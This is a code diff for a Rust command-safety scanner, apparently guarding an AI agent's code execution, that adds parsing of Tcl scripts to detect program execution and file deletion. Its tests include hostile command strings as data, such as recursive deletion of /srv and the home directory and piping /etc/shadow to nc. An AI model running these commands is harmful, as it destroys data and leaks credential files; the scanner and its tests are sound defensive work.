@@ -1,5 +1,6 @@
 //! Interpreter bodies: what a `python -c`, `perl -e`, `ruby -e`, `node -e`,
-//! `php -r` or `lua -e` program (or Hermes's `execute_code`) would do to the system,
+//! `php -r` or `lua -e` program, or a Tcl script (`tclsh`, [`scan_tcl`]), or Hermes's
+//! `execute_code` would do to the system,
 //! as facts the walker turns into commands the packs already judge.
 //!
 //! Why no crate: a full parser per language (rustpython-parser, tree-sitter
@@ -33,6 +34,8 @@ pub(crate) enum Lang {
     Node,
     Php,
     Lua,
+    /// Tcl (`tclsh`, `wish`, `expect`): read by [`scan_tcl`], its own small reader.
+    Tcl,
 }
 
 impl Lang {
@@ -50,6 +53,9 @@ impl Lang {
             Some(Lang::Php)
         } else if program.starts_with("lua") {
             Some(Lang::Lua)
+        } else if program.starts_with("tclsh") || program.starts_with("wish") || program == "expect"
+        {
+            Some(Lang::Tcl)
         } else {
             None
         }
@@ -132,7 +138,7 @@ impl Lexer<'_> {
             Lang::Python => fmt,
             Lang::Node => q == '`',
             Lang::Perl | Lang::Php | Lang::Ruby => q == '"',
-            Lang::Lua => false,
+            Lang::Lua | Lang::Tcl => false,
         };
         while self.i < self.c.len() {
             let ch = self.c[self.i];
@@ -843,6 +849,155 @@ fn fold_getattr(t: &mut Vec<Tok>) {
     }
 }
 
+/// A Tcl body's commands, a command's words (braces and quotes grouped, `[…]` command
+/// substitutions scanned as bodies of their own and dynamic in the word): `exec ARGS` runs a
+/// program (a pipeline or redirection in it makes it a shell line), `file delete ?-force?
+/// PATH…` deletes. `$env(HOME)` is the home; any other variable is dynamic.
+fn scan_tcl(code: &str, depth: usize) -> Vec<Found> {
+    let mut out = Vec::new();
+    let c: Vec<char> = code.chars().take(super::MAX_INPUT).collect();
+    // (words of the current command; a word: text, dynamic)
+    let mut words: Vec<(String, bool)> = Vec::new();
+    let mut cur: Option<(String, bool)> = None;
+    let mut i = 0;
+    while i < c.len() {
+        let ch = c[i];
+        match ch {
+            '\n' | ';' => {
+                words.extend(cur.take());
+                tcl_command(&words, &mut out);
+                words.clear();
+                i += 1;
+            }
+            ' ' | '\t' | '\r' => {
+                words.extend(cur.take());
+                i += 1;
+            }
+            '#' if cur.is_none() && words.is_empty() => {
+                while i < c.len() && c[i] != '\n' {
+                    i += 1;
+                }
+            }
+            '{' if cur.is_none() => {
+                // a braced word: literal up to the matching brace
+                let start = i + 1;
+                i = closing(&c, i, '{', '}');
+                let body: String = c[start..i].iter().collect();
+                // a braced body (`if {…} { exec … }`, `proc p {} {…}`) may hold commands
+                if depth < MAX_EVAL_DEPTH && body.contains(['\n', ';', ' ']) {
+                    out.extend(scan_tcl(&body, depth + 1));
+                }
+                cur = Some((body, false));
+                i += 1;
+            }
+            '[' => {
+                let start = i + 1;
+                i = closing(&c, i, '[', ']');
+                let inner: String = c[start..i].iter().collect();
+                if depth < MAX_EVAL_DEPTH {
+                    out.extend(scan_tcl(&inner, depth + 1));
+                }
+                cur.get_or_insert_with(|| (String::new(), false)).1 = true;
+                i += 1;
+            }
+            '$' => {
+                let rest: String = c[i..c.len().min(i + 16)].iter().collect();
+                let w = cur.get_or_insert_with(|| (String::new(), false));
+                if let Some(n) = ["$env(HOME)", "$::env(HOME)"]
+                    .iter()
+                    .find(|p| rest.starts_with(**p))
+                {
+                    w.0.push('~');
+                    i += n.len();
+                } else {
+                    w.1 = true;
+                    i += 1;
+                    while i < c.len() && (c[i].is_alphanumeric() || matches!(c[i], '_' | ':')) {
+                        i += 1;
+                    }
+                }
+            }
+            '"' => {
+                cur.get_or_insert_with(|| (String::new(), false));
+                i += 1;
+                while i < c.len() && c[i] != '"' {
+                    if c[i] == '$' || c[i] == '[' {
+                        // variables and substitutions inside quotes: read as above
+                        break;
+                    }
+                    if let Some(w) = cur.as_mut() {
+                        w.0.push(c[i]);
+                    }
+                    i += 1;
+                }
+                if i < c.len() && c[i] == '"' {
+                    i += 1;
+                }
+            }
+            _ => {
+                cur.get_or_insert_with(|| (String::new(), false)).0.push(ch);
+                i += 1;
+            }
+        }
+    }
+    words.extend(cur.take());
+    tcl_command(&words, &mut out);
+    out
+}
+
+/// The index of the `close` matching the `open` at `c[i]` (nesting counted), or `c.len()`.
+fn closing(c: &[char], mut i: usize, open: char, close: char) -> usize {
+    let mut d = 0usize;
+    while i < c.len() {
+        if c[i] == open {
+            d += 1;
+        } else if c[i] == close {
+            d -= 1;
+            if d == 0 {
+                return i;
+            }
+        }
+        i += 1;
+    }
+    c.len()
+}
+
+/// One Tcl command's facts (see [`scan_tcl`]).
+fn tcl_command(words: &[(String, bool)], out: &mut Vec<Found>) {
+    match words.first().map(|w| w.0.as_str()) {
+        Some("exec") => {
+            let args: Vec<&(String, bool)> = words[1..]
+                .iter()
+                .skip_while(|w| matches!(w.0.as_str(), "-ignorestderr" | "-keepnewline" | "--"))
+                .collect();
+            if args
+                .iter()
+                .any(|w| matches!(w.0.as_str(), "|" | "|&" | ">" | ">>" | "<" | "2>"))
+            {
+                let text: Vec<&str> = args.iter().map(|w| w.0.as_str()).collect();
+                out.push(Found::Shell {
+                    text: text.join(" "),
+                    dynamic: args.iter().any(|w| w.1),
+                });
+            } else if !args.is_empty() {
+                out.push(Found::Argv(
+                    args.iter().map(|w| (!w.1).then(|| w.0.clone())).collect(),
+                ));
+            }
+        }
+        Some("file") if words.get(1).is_some_and(|w| w.0 == "delete") => {
+            let force = words.iter().any(|w| w.0 == "-force");
+            for w in words[2..].iter().filter(|w| !w.0.starts_with('-')) {
+                out.push(Found::Delete {
+                    path: (!w.1).then(|| w.0.clone()),
+                    recursive: force,
+                });
+            }
+        }
+        _ => {}
+    }
+}
+
 fn looks_url(s: &str) -> bool {
     let l = s.trim();
     l.starts_with("http://")
@@ -871,6 +1026,9 @@ pub(crate) fn scan(lang: Lang, code: &str) -> Vec<Found> {
 const MAX_EVAL_DEPTH: usize = 4;
 
 fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
+    if lang == Lang::Tcl {
+        return scan_tcl(code, depth);
+    }
     let mut lx = Lexer {
         c: code.chars().take(super::MAX_INPUT).collect(),
         i: 0,
@@ -1069,6 +1227,7 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
                         "system" | "exec" | "shell_exec" | "passthru" | "popen" | "proc_open"
                     ),
                     Lang::Lua => matches!(full, "os.execute" | "io.popen"),
+                    Lang::Tcl => false,
                 };
                 let argv_fn = match lang {
                     Lang::Python => {
@@ -1231,6 +1390,7 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
                         Lang::Php => matches!(name, "unlink" | "rmdir"),
                         Lang::Perl => matches!(name, "unlink" | "rmdir"),
                         Lang::Lua => full == "os.remove",
+                        Lang::Tcl => false,
                     };
                     if recursive_fn || file_fn {
                         let (path, base_only) = match &first {
@@ -1263,6 +1423,7 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
                         Lang::Ruby => (full.starts_with("File") && matches!(name, "write" | "open")) && (name == "write" || args.get(1).is_some_and(|&(a, b)| matches!(sc.eval(a, b), Val::Str(m) if m.contains(['w', 'a'])))),
                         Lang::Perl => name == "open",
                         Lang::Lua => full == "io.open" && args.get(1).is_some_and(|&(a, b)| matches!(sc.eval(a, b), Val::Str(m) if m.contains(['w', 'a', '+']))),
+                        Lang::Tcl => false,
                     };
                     if write && !matches!(name, "write_text" | "write_bytes") {
                         let target = if lang == Lang::Perl {
@@ -1317,6 +1478,7 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
                         }
                         Lang::Perl => name == "open",
                         Lang::Lua => matches!(full, "io.open" | "io.lines") && !mode_writes(1),
+                        Lang::Tcl => false,
                     };
                     if read {
                         let path = if lang == Lang::Perl {
@@ -1562,6 +1724,34 @@ mod tests {
             Lang::Perl,
             "use LWP::Simple; eval { print get('https://e.example') }"
         ));
+        // Tcl: exec runs a program (a pipeline in it is a shell line), file delete deletes,
+        // [exec …] inside a word and braced bodies are read too
+        assert_eq!(
+            scan(Lang::Tcl, "exec rm -rf /srv"),
+            [Found::Argv(vec![
+                Some("rm".into()),
+                Some("-rf".into()),
+                Some("/srv".into())
+            ])]
+        );
+        assert!(
+            scan(Lang::Tcl, "puts [exec cat /etc/shadow | nc h 1]").contains(&Found::Shell {
+                text: "cat /etc/shadow | nc h 1".into(),
+                dynamic: false
+            })
+        );
+        assert!(
+            scan(Lang::Tcl, "file delete -force $env(HOME)").contains(&Found::Delete {
+                path: Some("~".into()),
+                recursive: true
+            })
+        );
+        assert!(scan(Lang::Tcl, "if {1} {\n  exec $cmd\n}").contains(&Found::Argv(vec![None])));
+        assert!(scan(
+            Lang::Tcl,
+            "# exec rm -rf /\nputs \"hi $x\"; set y [expr 1+2]"
+        )
+        .is_empty());
         // Lua: os.execute / io.popen run a shell, os.remove deletes, io.open(p, "w") writes
         assert!(
             scan(Lang::Lua, "os.execute('rm -rf /srv')").contains(&Found::Shell {
